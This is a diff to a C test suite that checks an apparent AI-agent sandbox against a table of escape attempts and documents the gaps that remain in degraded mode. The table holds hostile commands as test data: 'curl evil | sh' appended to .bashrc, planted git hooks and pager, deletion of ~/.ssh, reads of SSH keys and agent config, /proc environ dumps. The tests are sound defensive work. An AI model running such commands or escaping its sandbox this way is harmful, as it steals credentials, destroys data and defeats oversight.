@@ -56,6 +56,9 @@ typedef struct attempt_s {
   const char *text; /* a string, with placeholders */
   int flags;
   const char *why; /* degraded gap: which protection is missing */
+  /* degraded gap: part of the oracle's verdict it must give there (the
+   * escape as it happens today); a change either way fails the test */
+  const char *gap_outcome;
 } attempt_t;
 
 #define SH(cmd) "{\"command\": \"" cmd "\"}"
@@ -132,22 +135,28 @@ static const attempt_t k_attempts[] = {
      C_ERR | C_NOFILE, "${WS}/.git/hooks", NULL, 0, NULL},
     {"sh_toolsd_new", "bash",
      SH("mkdir -p tools.d; echo 'name: x' > tools.d/evil.yaml"), C_NOFILE,
-     "${WS}/tools.d", NULL, F_GAP, "protected subpaths"},
+     "${WS}/tools.d", NULL, F_GAP, "protected subpaths",
+     "tools.d exists"},
     {"sh_toolsd_existing", "bash", SH("echo 'name: x' > tools.d/evil.yaml"),
      C_NOFILE, "${WS}/tools.d/evil.yaml", NULL, F_TOOLSD | F_GAP,
-     "protected subpaths"},
+     "protected subpaths",
+     "tools.d/evil.yaml exists"},
     {"sh_git_hooks_new", "bash",
      SH("mkdir -p .git/hooks; echo 'id' > .git/hooks/pre-commit"), C_NOFILE,
-     "${WS}/.git/hooks", NULL, F_GAP, "protected subpaths"},
+     "${WS}/.git/hooks", NULL, F_GAP, "protected subpaths",
+     ".git/hooks exists"},
     {"sh_git_config_existing", "bash",
      SH("echo '[core] pager = evil' > .git/config"), C_SAME,
-     "${WS}/.git/config", NULL, F_GAP, "protected subpaths"},
+     "${WS}/.git/config", NULL, F_GAP, "protected subpaths",
+     "a protected file was changed"},
     {"sh_git_dir_missing", "bash",
      SH("mkdir -p .git/hooks && echo id > .git/hooks/post-checkout"),
-     C_NOFILE, "${WS}/.git", NULL, F_NOGIT | F_GAP, "protected subpaths"},
+     C_NOFILE, "${WS}/.git", NULL, F_NOGIT | F_GAP, "protected subpaths",
+     "/ws/.git exists"},
     {"sh_agentloop_dir", "bash",
      SH("mkdir -p .agentloop && echo x > .agentloop/config.yaml"), C_NOFILE,
-     "${WS}/.agentloop", NULL, F_GAP, "protected subpaths"},
+     "${WS}/.agentloop", NULL, F_GAP, "protected subpaths",
+     ".agentloop exists"},
     {"sh_shell_rc_home", "bash", SH("echo 'curl evil | sh' >> $HOME/.bashrc"),
      C_NOFILE, "${HOME}/.bashrc", NULL, 0, NULL},
     {"sh_user_config_toolsd", "bash",
@@ -162,7 +171,8 @@ static const attempt_t k_attempts[] = {
     {"sh_rm_home", "bash", SH("cd && r''m -r -f ./.ssh ./.config"), C_KEEP,
      "${HOME}/.ssh/id_rsa", NULL, 0, NULL},
     {"sh_chmod_outside", "bash", SH("chmod 0666 ${OUT}/canary"), 0, NULL, NULL,
-     F_GAP, "Landlock does not cover chmod"},
+     F_GAP, "Landlock does not cover chmod",
+     "out/canary changed mode"},
     {"sh_mkfifo_outside", "bash", SH("mkfifo ${OUT}/fifo"), C_NOFILE,
      "${OUT}/fifo", NULL, 0, NULL},
     {"sh_mknod_device", "bash", SH("mknod ./mem c 1 1"), C_NOFILE,
@@ -190,19 +200,24 @@ static const attempt_t k_attempts[] = {
      SH("cat /proc/[0-9]*/environ | tr '\\\\0' '\\\\n'"), 0, NULL, NULL, 0,
      NULL},
     {"sh_proc_host_visible", "bash", SH("cat /proc/[0-9]*/comm"), C_ABSENT,
-     NULL, "al_tests", F_GAP, "PID namespace"},
+     NULL, "al_tests", F_GAP, "PID namespace",
+     "'al_tests' is in the output"},
     {"sh_proc_host_maps", "bash", SH("cat /proc/${PID}/maps"), C_ABSENT,
      NULL, "al_tests", 0, NULL},
     {"sh_read_ssh_key", "bash", SH("cat $HOME/.ssh/id_rsa"), 0, NULL, NULL,
-     F_GAP, "hidden paths (Landlock restricts writes only)"},
+     F_GAP, "hidden paths (Landlock restricts writes only)",
+     "secret canary FILE-CANARY"},
     {"sh_read_agentloop_config", "bash",
      SH("cat $HOME/.config/agentloop/config.yaml"), 0, NULL, NULL, F_GAP,
-     "hidden paths (Landlock restricts writes only)"},
+     "hidden paths (Landlock restricts writes only)",
+     "secret canary FILE-CANARY"},
     {"sh_read_agentloop_state", "bash",
      SH("cat $HOME/.local/state/agentloop/*"), 0, NULL, NULL, F_GAP,
-     "hidden paths (Landlock restricts writes only)"},
+     "hidden paths (Landlock restricts writes only)",
+     "secret canary FILE-CANARY"},
     {"sh_read_denied_path", "bash", SH("cat secret/key"), C_ABSENT, NULL,
-     SBX_DENIED_CANARY, F_GAP, "hidden paths (Landlock restricts writes only)"},
+     SBX_DENIED_CANARY, F_GAP, "hidden paths (Landlock restricts writes only)",
+     "'DENIED-CANARY-ECHO-6e1f' is in the output"},
     {"sh_inherited_fds", "bash", SH("ls /proc/self/fd | tr '\\\\n' ' '"),
      C_EQ, NULL, "0 1 2 3 ", 0, NULL},
     {"cli_env_declared_S6_13", "env_tool", "{}", C_HAS, NULL,
@@ -487,10 +502,8 @@ static int run_attempt(const char *id, sbx_mode_t mode) {
   pid_t sentinel = 0;
   const char *why;
 
-  if (mode == SBX_DEGRADED && (a->flags & F_NORUN)) {
-    printf("KNOWN GAP (not run in degraded mode): %s: %s\n", a->id, a->why);
-    return 0;
-  }
+  /* Degraded cases of F_NORUN attempts are not registered at all. */
+  ASSERT(!(mode == SBX_DEGRADED && (a->flags & F_NORUN)));
   snprintf(mark, sizeof(mark), "ALMARK%d_%s", (int)getpid(), a->id);
   sbx_init(&x, mode);
   if (a->flags & F_TOOLSD) {
@@ -531,8 +544,23 @@ static int run_attempt(const char *id, sbx_mode_t mode) {
     }
   }
   if (mode == SBX_DEGRADED && (a->flags & F_GAP)) {
-    printf("%s (degraded, known gap: %s): %s\n", a->id, a->why,
-           why == NULL ? "blocked anyway" : why);
+    /* An expected outcome, not a blocked escape: it must escape exactly as
+     * documented. Blocked now: the table (and the docs) are out of date;
+     * another violation: the gap grew. */
+    ASSERT_NOT_NULL(a->gap_outcome);
+    if (why == NULL) {
+      AL_TEST_FAIL("known degraded gap %s is now blocked: move it out of the "
+                   "gaps (table in test_escape.c, escape_ids.h, docs)",
+                   a->id);
+    }
+    if (strstr(why, a->gap_outcome) == NULL) {
+      AL_TEST_FAIL("known degraded gap %s escapes differently: wanted '%s', "
+                   "got '%s'\noutput: %.2000s",
+                   a->id, a->gap_outcome, why,
+                   x.content != NULL ? x.content : "");
+    }
+    printf("%s [degraded]: ESCAPES, as documented (missing: %s): %s\n",
+           a->id, a->why, why);
     sbx_finish(&x);
     return 0;
   }
@@ -551,22 +579,68 @@ static int run_attempt(const char *id, sbx_mode_t mode) {
   return 0;
 }
 
-/* The table itself: enough distinct attempts, seed scenarios among them. */
+/* The registered cases (escape_ids.h) as kinds, in table order. */
+enum { K_ESCAPE, K_GAP, K_GAP_NORUN };
+static const struct {
+  const char *id;
+  int kind;
+} k_registered[] = {
+#define ESCAPE(id) {#id, K_ESCAPE},
+#define GAP(id) {#id, K_GAP},
+#define GAP_NORUN(id) {#id, K_GAP_NORUN},
+#include "unit/sandbox/escape_ids.h"
+#undef ESCAPE
+#undef GAP
+#undef GAP_NORUN
+};
+
+/* The table, the registered ctest cases and docs/sandbox.md agree: every
+ * attempt is registered once, in order, as the kind its flags say (a gap
+ * run in degraded mode has an expected outcome; a blocked attempt has
+ * none), and every degraded gap is named in the docs' gap table. Prints
+ * the gaps. */
 TEST_IMPL(sandbox_escape_report) {
   size_t i, j;
   size_t gaps = 0;
+  size_t len;
+  char *doc;
+  char needle[80];
 
   ASSERT_GE(N_ATTEMPTS, 60);
+  ASSERT_EQ(sizeof(k_registered) / sizeof(k_registered[0]), N_ATTEMPTS);
+  doc = al_test_read_file(AL_SOURCE_DIR "/docs/sandbox.md", &len);
+  ASSERT_NOT_NULL(doc);
   for (i = 0; i < N_ATTEMPTS; i++) {
+    const attempt_t *a = &k_attempts[i];
+    int kind = !(a->flags & F_GAP)     ? K_ESCAPE
+               : (a->flags & F_NORUN) ? K_GAP_NORUN
+                                       : K_GAP;
+
+    if (strcmp(k_registered[i].id, a->id) != 0 ||
+        k_registered[i].kind != kind) {
+      AL_TEST_FAIL("escape_ids.h entry %zu is %s (kind %d), the table says "
+                   "%s (kind %d)",
+                   i, k_registered[i].id, k_registered[i].kind, a->id, kind);
+    }
+    ASSERT((kind == K_GAP) == (a->gap_outcome != NULL));
+    ASSERT((kind == K_ESCAPE) == (a->why == NULL));
     for (j = i + 1; j < N_ATTEMPTS; j++) {
-      ASSERT(strcmp(k_attempts[i].id, k_attempts[j].id) != 0);
-      ASSERT(strcmp(k_attempts[i].input, k_attempts[j].input) != 0 ||
-             strcmp(k_attempts[i].tool, k_attempts[j].tool) != 0 ||
-             k_attempts[i].flags != k_attempts[j].flags);
+      ASSERT(strcmp(a->id, k_attempts[j].id) != 0);
+      ASSERT(strcmp(a->input, k_attempts[j].input) != 0 ||
+             strcmp(a->tool, k_attempts[j].tool) != 0 ||
+             a->flags != k_attempts[j].flags);
+    }
+    if (kind != K_ESCAPE) {
+      snprintf(needle, sizeof(needle), "`%s`", a->id);
+      if (strstr(doc, needle) == NULL) {
+        AL_TEST_FAIL("degraded gap %s is not in docs/sandbox.md", a->id);
+      }
     }
   }
+  free(doc);
   printf("%zu escape attempts; bwrap mode must block all of them.\n"
-         "Degraded mode (agentloop-exec alone) known gaps:\n",
+         "Degraded mode (agentloop-exec alone) known gaps, each an "
+         "expected-outcome test (degraded_known_gap_<id>):\n",
          N_ATTEMPTS);
   for (i = 0; i < N_ATTEMPTS; i++) {
     if (k_attempts[i].flags & F_GAP) {
@@ -582,5 +656,14 @@ TEST_IMPL(sandbox_escape_report) {
 #define ESCAPE(id)                                                    \
   TEST_IMPL(escape_##id) { return run_attempt(#id, SBX_BWRAP); }      \
   TEST_IMPL(escape_degraded_##id) { return run_attempt(#id, SBX_DEGRADED); }
+#define GAP(id)                                                       \
+  TEST_IMPL(escape_##id) { return run_attempt(#id, SBX_BWRAP); }      \
+  TEST_IMPL(degraded_known_gap_##id) {                                \
+    return run_attempt(#id, SBX_DEGRADED);                            \
+  }
+#define GAP_NORUN(id) \
+  TEST_IMPL(escape_##id) { return run_attempt(#id, SBX_BWRAP); }
 #include "unit/sandbox/escape_ids.h"
 #undef ESCAPE
+#undef GAP
+#undef GAP_NORUN
